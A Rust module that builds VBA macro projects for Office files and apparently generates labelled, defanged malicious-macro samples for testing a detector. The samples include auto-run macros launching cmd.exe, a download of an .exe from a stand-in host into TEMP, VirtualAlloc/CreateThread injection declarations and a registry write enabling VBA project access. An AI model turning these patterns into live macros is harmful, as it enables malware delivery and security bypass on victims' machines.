//! VBA projects: the compression and the `dir`, `PROJECT` and module streams (MS-OVBA 2.3 and 2.4.1).

use crate::bits::{Le, utf16le};
use crate::cfb::Cfb;

/// What a module is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A document's own module, such as `ThisDocument`.
    Document,
    /// A standard module.
    Standard,
}

/// A VBA project under construction.
#[derive(Debug, Clone, Default)]
pub struct Project {
    modules: Vec<(String, Kind, String)>,
}

impl Project {
    /// A project without modules.
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a module with its source; the `Attribute` lines are written for it.
    pub fn module(mut self, name: &str, kind: Kind, source: &str) -> Self {
        let class = if kind == Kind::Document {
            "Attribute VB_Base = \"0{00020906-0000-0000-C000-000000000046}\"\r\n"
        } else {
            ""
        };
        let source = source.replace("\r\n", "\n").replace('\n', "\r\n");
        self.modules
            .push((name.to_owned(), kind, format!("Attribute VB_Name = \"{name}\"\r\n{class}{source}")));
        self
    }

    /// The project's streams under `storage` (`""` for a `vbaProject.bin`, `Macros/` for a `.doc`).
    pub fn into_cfb(self, file: Cfb, storage: &str) -> Cfb {
        let file = file
            .stream(&format!("{storage}VBA/dir"), &compress(&self.dir()))
            .stream(&format!("{storage}VBA/_VBA_PROJECT"), &[0xcc, 0x61, 0xff, 0xff, 0, 0, 0])
            .stream(&format!("{storage}PROJECT"), self.project_stream().as_bytes())
            .stream(&format!("{storage}PROJECTwm"), &self.project_wm());
        self.modules.iter().fold(file, |file, (name, _, source)| {
            file.stream(&format!("{storage}VBA/{name}"), &compress(source.as_bytes()))
        })
    }

    /// A `vbaProject.bin`.
    pub fn build(self) -> Vec<u8> {
        self.into_cfb(Cfb::new(), "").build()
    }

    /// The `dir` stream before compression (2.3.4.2).
    fn dir(&self) -> Vec<u8> {
        let pair = |out: Le, id: u16, text: &str, wide: u16| sized(sized(out, id, text.as_bytes()), wide, &utf16le(text));
        let number = |out: Le, id: u16, value: u32| sized(out, id, &value.to_le_bytes());
        let mut out = number(Le::new(), 0x0001, 1);
        out = number(number(out, 0x0002, 0x409), 0x0014, 0x409);
        out = sized(sized(out, 0x0003, &1252u16.to_le_bytes()), 0x0004, b"Project");
        out = pair(out, 0x0005, "", 0x0040);
        out = sized(sized(out, 0x0006, b""), 0x003d, b"");
        out = number(number(out, 0x0007, 0), 0x0008, 0);
        out = out.u16(0x0009).u32(4).u32(0x5f1d_8b2c).u16(6);
        out = pair(out, 0x000c, "", 0x003c);
        out = pair(out, 0x0016, "stdole", 0x003e);
        let library = b"*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\System32\\stdole2.tlb#OLE Automation";
        out = sized(out, 0x000d, &Le::new().u32(library.len() as u32).raw(library).u32(0).u16(0).0);
        out = sized(out, 0x000f, &(self.modules.len() as u16).to_le_bytes());
        out = sized(out, 0x0013, &0xffff_u16.to_le_bytes());
        for (name, kind, _) in &self.modules {
            out = pair(out, 0x0019, name, 0x0047);
            out = pair(out, 0x001a, name, 0x0032);
            out = pair(out, 0x001c, "", 0x0048);
            out = number(number(out, 0x0031, 0), 0x001e, 0);
            out = sized(out, 0x002c, &0xffff_u16.to_le_bytes());
            out = sized(out, if *kind == Kind::Standard { 0x0021 } else { 0x0022 }, b"");
            out = sized(out, 0x002b, b"");
        }
        sized(out, 0x0010, b"").0
    }

    /// The `PROJECT` stream (2.3.1).
    fn project_stream(&self) -> String {
        let modules: String = self
            .modules
            .iter()
            .map(|(name, kind, _)| match kind {
                Kind::Document => format!("Document={name}/&H00000000\r\n"),
                Kind::Standard => format!("Module={name}\r\n"),
            })
            .collect();
        format!(
            "ID=\"{{00000000-0000-0000-0000-000000000000}}\"\r\n{modules}Name=\"Project\"\r\nHelpContextID=\"0\"\r\n\
             VersionCompatible32=\"393222000\"\r\n\r\n[Host Extender Info]\r\n\
             &H00000001={{3832D640-CF90-11CF-8E43-00A0C911005A}};VBE;&H00000000\r\n\r\n[Workspace]\r\n"
        )
    }

    /// The `PROJECTwm` stream (2.3.3): names in both encodings.
    fn project_wm(&self) -> Vec<u8> {
        let names = self
            .modules
            .iter()
            .fold(Le::new(), |out, (name, ..)| out.cstr(name).utf16(name).u16(0));
        names.u16(0).0
    }
}

/// The project of the demo: `AutoOpen` calls `Shell` with a harmless `echo` of the marker.
pub fn auto_open(seed: &str) -> Project {
    let marker = crate::marker(seed);
    Project::new().module("ThisDocument", Kind::Document, "").module(
        "Module1",
        Kind::Standard,
        &format!("Sub AutoOpen()\n    ' {marker}\n    Shell \"cmd.exe /c echo harmless test\", vbHide\nEnd Sub\n"),
    )
}

/// Projects that each show one behaviour: label and project; `marker(label)` stands in a comment of the module.
pub fn behaviours() -> Vec<(&'static str, Project)> {
    let sources = [
        (
            "vba-document-open",
            "Private Sub Document_Open()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo harmless\", 0\nEnd Sub\n",
        ),
        ("vba-close", "Sub AutoClose()\n    MsgBox \"harmless\"\nEnd Sub\n"),
        (
            "vba-download",
            "Sub AutoOpen()\n    Dim x\n    Set x = CreateObject(\"MSXML2.XMLHTTP\")\n    x.Open \"GET\", \"https://files.example/a.exe\", False\n    x.Send\n\
             \x20   Open Environ(\"TEMP\") & \"\\a.exe\" For Binary As #1\nEnd Sub\n",
        ),
        (
            "vba-declare",
            "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As Long, ByVal d As Long) As LongPtr\n\
             Private Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" (ByVal a As LongPtr, b As Any, ByVal c As LongPtr)\n\
             Private Declare PtrSafe Function CreateThread Lib \"kernel32\" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr\n",
        ),
        (
            "vba-wmi",
            "Sub AutoOpen()\n    GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"cmd.exe /c echo harmless\"\nEnd Sub\n",
        ),
        (
            "vba-security",
            "Sub AutoOpen()\n    CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\", 1\nEnd Sub\n",
        ),
        (
            "vba-self-modify",
            "Sub AutoOpen()\n    ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub X(): End Sub\"\nEnd Sub\n",
        ),
        (
            "vba-mac",
            "Sub AutoOpen()\n    MacScript \"do shell script \"\"echo harmless\"\"\"\nEnd Sub\n",
        ),
        ("vba-helper-only", "Function Twice(x)\n    Twice = x * 2\nEnd Function\n"),
    ];
    let project = |(label, source): (&'static str, &str)| {
        let module = format!("' {}\n{source}", crate::marker(label));
        (
            label,
            Project::new()
                .module("ThisDocument", Kind::Document, "")
                .module("Module1", Kind::Standard, &module),
        )
    };
    sources.into_iter().map(project).collect()
}

/// MS-OVBA 2.4.1 compression with copy tokens; a chunk that does not shrink is stored.
pub fn compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in data.chunks(4096) {
        let packed = chunk_tokens(chunk);
        if packed.len() < 4096 {
            out.extend_from_slice(&(0xb000 | (packed.len() as u16 + 2 - 3)).to_le_bytes());
            out.extend_from_slice(&packed);
            continue;
        }
        out.extend_from_slice(&0x3fff_u16.to_le_bytes());
        out.extend_from_slice(chunk);
        out.resize(out.len() + 4096 - chunk.len(), 0);
    }
    out
}

fn chunk_tokens(chunk: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut at = 0;
    while at < chunk.len() {
        let flag_at = out.len();
        out.push(0);
        for bit in 0..8 {
            if at >= chunk.len() {
                break;
            }
            let length_bits = 16 - (usize::BITS - at.saturating_sub(1).leading_zeros()).max(4);
            let longest = (1usize << length_bits) - 1 + 3;
            let found = best_match(chunk, at, longest);
            let Some((length, distance)) = found else {
                out.push(chunk[at]);
                at += 1;
                continue;
            };
            out[flag_at] |= 1 << bit;
            out.extend_from_slice(&((((distance - 1) << length_bits) | (length - 3)) as u16).to_le_bytes());
            at += length;
        }
    }
    out
}

/// The longest earlier occurrence of at least three bytes inside the chunk.
fn best_match(chunk: &[u8], at: usize, longest: usize) -> Option<(usize, usize)> {
    let candidates = (0..at).rev().map(|from| {
        let length = chunk[at..]
            .iter()
            .zip(&chunk[from..])
            .take(longest)
            .take_while(|(a, b)| a == b)
            .count();
        (length, at - from)
    });
    candidates
        .max_by_key(|(length, distance)| (*length, usize::MAX - distance))
        .filter(|(length, _)| *length >= 3)
}

fn sized(out: Le, id: u16, body: &[u8]) -> Le {
    out.u16(id).u32(body.len() as u32).raw(body)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The decompression of MS-OVBA 2.4.1.3.1, written from the specification's own terms.
    fn decompress(data: &[u8]) -> Vec<u8> {
        let (mut out, mut at) = (Vec::new(), 1);
        while at < data.len() {
            let header = u16::from_le_bytes([data[at], data[at + 1]]);
            let end = at + usize::from(header & 0xfff) + 3;
            let start = out.len();
            at += 2;
            if header & 0x8000 == 0 {
                out.extend_from_slice(&data[at..at + 4096]);
                at += 4096;
                continue;
            }
            while at < end {
                let flags = data[at];
                at += 1;
                for bit in 0..8 {
                    if at >= end {
                        break;
                    }
                    if flags >> bit & 1 == 0 {
                        out.push(data[at]);
                        at += 1;
                        continue;
                    }
                    let token = u16::from_le_bytes([data[at], data[at + 1]]);
                    let bits = (((out.len() - start) as f64).log2().ceil() as u32).max(4);
                    let mask = 0xffff_u16 >> bits;
                    let back = usize::from((token & !mask) >> (16 - bits)) + 1;
                    (0..usize::from(token & mask) + 3).for_each(|_| out.push(out[out.len() - back]));
                    at += 2;
                }
            }
        }
        out
    }

    #[test]
    fn compression_round_trips_and_shrinks() {
        let text = "Sub AutoOpen()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n".repeat(300).into_bytes();
        assert_eq!(decompress(&compress(&text)), text);
        assert!(compress(&text).len() < text.len() / 4);
        let hard = crate::noise(3, 8192);
        assert_eq!(decompress(&compress(&hard)), hard);
        for len in [0, 1, 2, 16, 17, 4095, 4096, 4097] {
            assert_eq!(decompress(&compress(&text[..len])), &text[..len]);
        }
    }
}
